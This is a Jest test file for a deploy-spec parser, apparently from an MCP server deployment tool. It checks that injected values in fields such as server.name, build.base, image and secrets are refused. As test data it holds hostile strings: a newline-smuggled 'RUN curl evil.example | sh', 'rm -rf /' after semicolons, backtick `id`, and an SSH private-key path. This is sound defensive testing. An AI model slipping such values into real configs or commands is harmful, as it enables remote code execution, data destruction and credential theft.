/**
 * Hostile values in the deploy spec: each field that reaches a generated file or a command line
 * refuses what its grammar cannot carry, with an error naming the file, line, column and field.
 * (The values these grammars still admit, such as $ in a path, are written escaped: see the
 * Dockerfile, Compose and handoff tests.)
 */
import { describe, expect, test } from '@jest/globals';
import { parseSpec } from '../../../src/spec/spec.js';
import { expectRefusedAt } from '../../helpers/spec-refusal.js';

const q = (value: string) => JSON.stringify(value);
const NEWLINE_RUN = 'x\nRUN curl evil.example | sh';

/** [field as the error names it, line of the value, spec text with the value] */
const cases: Array<[string, string, number, string]> = [
  ['server.name', NEWLINE_RUN, 2, `server:\n  name: ${q(NEWLINE_RUN)}\n`],
  ['server.name', 'a;rm -rf /', 2, `server:\n  name: ${q('a;rm -rf /')}\n`],
  ['server.name', '$HOME', 2, `server:\n  name: ${q('$HOME')}\n`],
  ['server.path', `/mcp${NEWLINE_RUN}`, 3, `server:\n  name: a\n  path: ${q(`/mcp${NEWLINE_RUN}`)}\n`],
  ['server.path', '/mcp/${X}', 3, `server:\n  name: a\n  path: ${q('/mcp/${X}')}\n`],
  ['server.path', '/mcp "quoted"', 3, `server:\n  name: a\n  path: ${q('/mcp "quoted"')}\n`],
  ['server.path', '/mcp/`id`', 3, `server:\n  name: a\n  path: ${q('/mcp/`id`')}\n`],
  ['server.path', 'mcp', 3, `server:\n  name: a\n  path: mcp\n`],
  ['build.base', `node:22${NEWLINE_RUN}`, 3, `server: {name: a}\nbuild:\n  base: ${q(`node:22${NEWLINE_RUN}`)}\n`],
  ['build.base', 'node:22 AS build', 3, `server: {name: a}\nbuild:\n  base: ${q('node:22 AS build')}\n`],
  ['build.base', '${BASE}', 3, `server: {name: a}\nbuild:\n  base: ${q('${BASE}')}\n`],
  ['build.base', 'node;rm -rf /', 3, `server: {name: a}\nbuild:\n  base: ${q('node;rm -rf /')}\n`],
  ['build.base', 'Node:22', 3, `server: {name: a}\nbuild:\n  base: Node:22\n`],
  ['build.secrets.0.id', 'npm,src=/root/.ssh/id_rsa', 4, `server: {name: a}\nbuild:\n  secrets:\n    - {id: ${q('npm,src=/root/.ssh/id_rsa')}, env: NPM_TOKEN}\n`],
  ['build.secrets.0.id', `npm${NEWLINE_RUN}`, 4, `server: {name: a}\nbuild:\n  secrets:\n    - {id: ${q(`npm${NEWLINE_RUN}`)}, env: NPM_TOKEN}\n`],
  ['build.secrets.0.env', 'A B', 4, `server: {name: a}\nbuild:\n  secrets:\n    - {id: npm, env: ${q('A B')}}\n`],
  ['build.args', `A${NEWLINE_RUN}`, 4, `server: {name: a}\nbuild:\n  args:\n    ${q(`A${NEWLINE_RUN}`)}: x\n`],
  ['build.args', 'A=B', 4, `server: {name: a}\nbuild:\n  args:\n    ${q('A=B')}: x\n`],
  ['image', 'ghcr.io/acme/weather:latest', 2, `server: {name: a}\nimage: ${q('ghcr.io/acme/weather:latest')}\n`],
  ['image', `ghcr.io/acme/weather${NEWLINE_RUN}`, 2, `server: {name: a}\nimage: ${q(`ghcr.io/acme/weather${NEWLINE_RUN}`)}\n`],
  ['image', '${REGISTRY}/weather', 2, `server: {name: a}\nimage: ${q('${REGISTRY}/weather')}\n`],
  ['env', `A${NEWLINE_RUN}`, 3, `server: {name: a}\nenv:\n  ${q(`A${NEWLINE_RUN}`)}: x\n`],
  ['env', 'A=B', 3, `server: {name: a}\nenv:\n  ${q('A=B')}: x\n`],
  ['env', '1A', 3, `server: {name: a}\nenv:\n  ${q('1A')}: x\n`],
  ['env', '$HOME', 3, `server: {name: a}\nenv:\n  ${q('$HOME')}: x\n`],
  ['secrets.0.name', 'K;rm -rf /', 3, `server: {name: a}\nsecrets:\n  - name: ${q('K;rm -rf /')}\n    from: {env: K}\n`],
  ['secrets.0.from.env', 'K}${OTHER', 4, `server: {name: a}\nsecrets:\n  - name: K\n    from: {env: ${q('K}${OTHER')}}\n`],
  ['secrets.0.from.github', 'K`id`', 4, `server: {name: a}\nsecrets:\n  - name: K\n    from: {github: ${q('K`id`')}}\n`],
  ['secrets.0.from.kubernetes.secret', `s${NEWLINE_RUN}`, 4, `server: {name: a}\nsecrets:\n  - name: K\n    from: {kubernetes: {secret: ${q(`s${NEWLINE_RUN}`)}, key: k}}\n`],
  ['resources.memory', '${MEM}', 3, `server: {name: a}\nresources:\n  memory: ${q('${MEM}')}\n`],
  ['ingress.host', 'a.example.com\nx', 3, `server: {name: a}\ningress:\n  host: ${q('a.example.com\nx')}\n`],
  ['targets.kubernetes.namespace', 'mcp;rm', 4, `server: {name: a}\ntargets:\n  kubernetes:\n    namespace: ${q('mcp;rm')}\n`],
];

describe('hostile values in the spec', () => {
  test.each(cases)('%s = %j is refused with its file, line and field', (field, value, line, text) => expectRefusedAt(text, field, line, value));

  test('what the grammars admit parses as written: $ and sub-delimiters in a path, anything in an env value', () => {
    const spec = parseSpec(
      `server: {name: a, path: ${q("/m$HOME;x&y='z'(1)*+,=:@%2F")}, command: [node, -e, ${q('x\nRUN curl evil')}]}\nenv: {A: ${q('$HOME ${X} `id` ;rm -rf / "q"\nnext')}}\nbuild: {base: ${q(`node:22-bookworm-slim@sha256:${'a'.repeat(64)}`)}}\nimage: localhost:5000/a/b\n`,
      'x.yml',
    );
    expect(spec.server.path).toBe("/m$HOME;x&y='z'(1)*+,=:@%2F");
    expect(spec.server.command).toEqual(['node', '-e', 'x\nRUN curl evil']);
    expect(spec.env.A).toBe('$HOME ${X} `id` ;rm -rf / "q"\nnext');
  });
});
